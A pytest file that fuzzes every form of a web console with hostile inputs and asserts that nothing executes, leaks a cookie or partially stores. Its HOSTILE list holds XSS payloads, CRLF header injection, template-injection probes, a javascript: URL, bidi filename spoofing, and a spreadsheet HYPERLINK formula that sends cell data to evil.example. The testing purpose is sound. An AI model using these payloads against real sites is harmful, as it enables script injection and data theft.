"""Hostile text in every field of every form that the pages have: the fields are found in the pages
themselves, so that a new one is tried as soon as it is there."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from typing import Any
from urllib.parse import urlencode

import httpx
import pytest

from amnestic import Amnesia, ForgetTarget
from amnestic.server.access import Role
from amnestic.server.console import proofs
from amnestic.testing import ScriptedBackend, serve_scripted
from amnestic.tools.registry import KeyGrant
from tests.server.console.forms import Form, page_of
from tests.server.console.visitor import Visitor
from tests.server.running import Proxy, running_proxy

Make = Callable[..., Visitor]
MARK = "Xylograph"
HOSTILE = {
    "script": f'{MARK}"><script>alert(1)</script><img src=x onerror=alert(2)><svg onload=a()>',
    "quotes": f"{MARK}'\"`\\' onfocus='alert(1)' autofocus x=\"",
    "null": f"{MARK}\x00\x01\x7f",
    "bidi": f"{MARK}\u202e\u2066\u200f\ufeffgpj.exe",
    "formula": f'=HYPERLINK("http://evil.example/?"&A1,"{MARK}")',
    "template": f"{MARK}{{{{7*191}}}}${{7*191}}{{% raw %}}<%= 7*191 %>#{{7*191}}{{0}}{{name}}%s",
    "surrogate": f"{MARK}\ud800\udfff\udc00",
    "lines": f"{MARK}\r\nset-cookie: a=b\r\n\r\n<script>alert(1)</script>\u2028\u2029\x0b",
    "address": "javascript:alert(1)//https://evil.example/\\..\\../%2e%2e/",
    "numbers": "-99999999999999999999999999999999999999999e999",
    "endless": f"{MARK} " * 100_000,
}
FILLED = {
    "text": "Please forget Ida Tarn, a painter from Venn.",
    "why": "because",
    "name": "Vera",
    "question": "Who wrote it?",
    "model": "m",
    "role": "viewer",
    "key": "admin",
}
"""What makes a form whole, so that the one hostile field is what it is about."""


@pytest.fixture
def adam(amnesia: Amnesia, browser: Make, monkeypatch: pytest.MonkeyPatch) -> Iterator[Visitor]:
    for name in ("_PROBES", "_SAMPLES", "_NEIGHBOURS"):
        monkeypatch.setattr(proofs, name, 1)
    with (
        serve_scripted(ScriptedBackend("It was Mirela Osk.")) as upstream,
        running_proxy(amnesia, upstream=upstream.base_url, admin_token="admin") as running,
    ):
        one = browser(running.url)
        one.log_in("admin")
        yield one


_IN_CI = frozenset({"script", "quotes"})  # every form with every kind takes minutes
KINDS = [pytest.param(k, marks=() if k in _IN_CI else pytest.mark.slow) for k in HOSTILE]


class World:
    """What there is in a registry, and pages that show all of it."""

    def __init__(self, amnesia: Amnesia, who: Visitor) -> None:
        self.amnesia, self.who = amnesia, who
        self._made, self._pages = 0, list[str]()
        self._then: tuple[Any, ...] = ()

    def pages(self) -> list[str]:
        """The pages with forms, of things that nothing has become of yet."""
        if self._pages and self.told() == self._then:
            return self._pages
        self._made += 1
        registry, number = self.amnesia.registry, self._made
        ids = [f"t-{number}", f"r-{number}"]
        for one in ids:
            registry.add(ForgetTarget(id=one, subject=f"Ara Number{one}"), actor="me")
        registry.revoke(ids[1], actor="me")
        for key in registry.keys.all():
            if key.state == "active":
                registry.keys.revoke(key.id, actor="me")
        registry.keys.create(KeyGrant(name="Ada", role=Role.CALLER), actor="me")
        shown = ["", "/request", "/import", "/trail", "/activity", "/bench", "/proof", "/keys"]
        self._pages = [*shown, *(f"/targets/{one}" for one in ids)]
        self._then = self.told()
        return self._pages

    def told(self) -> tuple[Any, ...]:
        """All that is stored, but for notes of what runs."""
        registry = self.amnesia.registry
        targets = tuple((t.id, t.version, t.state(), t.subject) for t in registry.targets())
        keys = tuple((key.id, key.state, key.name) for key in registry.keys.all())
        return targets, keys, registry.revision(), len(registry.trail())

    def send(self, form: Form, name: str, value: str) -> httpx.Response:
        """Send a form with a hostile value under one of its names, as a browser's page does."""
        sent: dict[str, str] = {}
        files: dict[str, tuple[str, bytes]] = {}
        filled = {**FILLED, "confirmed": form.action.split("/")[-2]}  # the id of the target
        for field in form.fields:
            told = value if field.name == name else field.value or filled.get(field.name, "")
            if field.kind == "file":
                content = told if field.name == name else "subject\nIda Tarn\n"
                shown = f"{told[:300]}.csv" if field.name == name else "t.csv"
                files[field.name] = (_sendable(shown), content.encode("utf-8", "surrogatepass"))
            elif field.kind != "checkbox" or field.name == name:
                sent[field.name] = told
        client = self.who.client
        if form.method == "get":
            query = urlencode(sent, errors="surrogatepass")
            return client.get(f"{form.action}?{query[:60_000]}")
        if form.sends_files:
            parts = {key: _sendable(told) for key, told in sent.items()}
            return client.post(form.action, data=parts, files=files)
        body = urlencode(sent, errors="surrogatepass")
        kind = {"content-type": "application/x-www-form-urlencoded"}
        return client.post(form.action, content=body, headers=kind)


def _sendable(text: str) -> str:
    return text.encode("utf-8", "surrogatepass").decode("utf-8", "replace")


def _harmless(response: httpx.Response, value: str, where: object) -> None:
    """Nothing of it runs, whatever it says."""
    assert response.status_code < 500, where
    assert response.headers["content-security-policy"].startswith("default-src 'none'"), where
    assert "a=b" not in response.headers.get("set-cookie", ""), where
    page = page_of(response.text)
    assert page.runs == [], where
    if "7*191" in value:
        assert "1337" not in response.text, where


@pytest.mark.parametrize("kind", KINDS)
def test_no_field_of_any_form_lets_hostile_text_run_break_or_half_store(
    adam: Visitor, amnesia: Amnesia, kind: str
) -> None:
    world, value, tried = World(amnesia, adam), HOSTILE[kind], set[tuple[str, str]]()
    number_of_pages = len(world.pages())
    for number in range(number_of_pages):
        at = 0
        while True:  # each form from a page that was loaded anew, of things made anew
            forms = page_of(adam.get(world.pages()[number]).text).forms
            todo = [
                (form, field.name)
                for form in forms
                for field in form.fields
                if field.name != "username"
            ]
            if at >= len(todo):
                break
            form, name = todo[at]
            at += 1
            shape = (_shape(form.action), _part(form, name))
            if shape in tried or form.action.endswith("/logout"):
                continue
            tried.add(shape)
            before = world.told()
            answer = adam.finished(world.send(form, name, value))
            _harmless(answer, value, shape)
            if answer.status_code >= 400:
                assert world.told() == before, shape
    assert {name.partition(" ")[0] for _, name in tried} >= {
        "why", "name", "namespaces", "grace", "probes", "q", "state", "of", "expires", "text",
        "question", "confirmed", "value", "version", "file", "space", "model", "requests",
    }  # fmt: skip
    for shown in (*world.pages(), "?state=all", "?state=revoked", "/trail"):
        _harmless(adam.get(shown), value, shown)
    for target in amnesia.registry.targets():
        assert amnesia.registry.get(target.id) == target
        _harmless(adam.get(f"/targets/{target.id}"), value, target.id)
    amnesia.registry.check_trail()
    checked = adam.finished(adam.post("/trail/check"))
    assert "follow from one another" in checked.text


def _shape(action: str) -> str:
    """Where a form goes to, whatever it is about."""
    parts = action.split("/")
    return "/".join("*" if i == 3 and len(parts) > 4 else part for i, part in enumerate(parts))


def _part(form: Form, name: str) -> str:
    """A field, with the part of a target that its form is of."""
    parts = [field.value for field in form.fields if field.name == "part"]
    return " ".join([name, *parts])


@pytest.mark.parametrize("kind", KINDS)
def test_the_reading_of_a_request_is_not_trusted_when_it_comes_back(
    adam: Visitor, amnesia: Amnesia, kind: str
) -> None:
    value, world = HOSTILE[kind], World(amnesia, adam)
    asked = {"text": FILLED["text"], "space": "default"}
    names = {
        field.name
        for form in page_of(adam.post("/request", asked).text).forms
        if form.action.startswith("/console/request")
        for field in form.fields
    }
    assert {"record", "take", "reason", "space"} <= names
    for name in names:
        for number in (0, 1):
            forms = page_of(adam.post("/request", asked).text).forms
            form = [one for one in forms if one.action.startswith("/console/request")][number]
            before = world.told()
            answer = world.send(form, name, value)
            _harmless(answer, value, (form.action, name))
            if answer.status_code >= 400:
                assert world.told() == before, (form.action, name)
            for target in amnesia.registry.targets():
                amnesia.registry.purge(target.id, actor="me")


@pytest.mark.parametrize("kind", KINDS)
def test_nothing_hostile_gets_in_at_the_door(console: Proxy, browser: Make, kind: str) -> None:
    value, stranger = HOSTILE[kind], browser(console.url)
    world = World.__new__(World)
    world.who = stranger
    (form,) = [
        one for one in page_of(stranger.get("/login").text).forms if one.action.endswith("/login")
    ]
    for name in [field.name for field in form.fields]:
        answer = world.send(form, name, value)
        _harmless(answer, value, name)
        assert answer.url.host == "127.0.0.1"
        stranger.post("/logout")
    query = urlencode({"next": value[:5_000], "back": value[:5_000]}, errors="surrogatepass")
    for path in ("/console/login", "/console/language/de", f"/console/language/{kind}"):
        answer = stranger.client.get(f"{path}?{query}")
        _harmless(answer, value, path)
        assert answer.url.host == "127.0.0.1"


def test_a_form_that_a_page_gains_is_tried() -> None:
    page = page_of(
        '<form method="post" action="/console/a"><input name="new">'
        '<textarea name="b">\nc</textarea>'
        '<select name="d"><option value="e"><option value="f" selected></select>'
        '<button name="g">h</button></form><input name="out"><a href="javascript:x">y</a>'
    )
    (form,) = page.forms
    assert [(one.name, one.kind, one.value) for one in form.fields] == [
        ("new", "text", ""), ("b", "textarea", "c"), ("d", "select", "f"),
    ]  # fmt: skip
    assert page.runs == ["a href"]
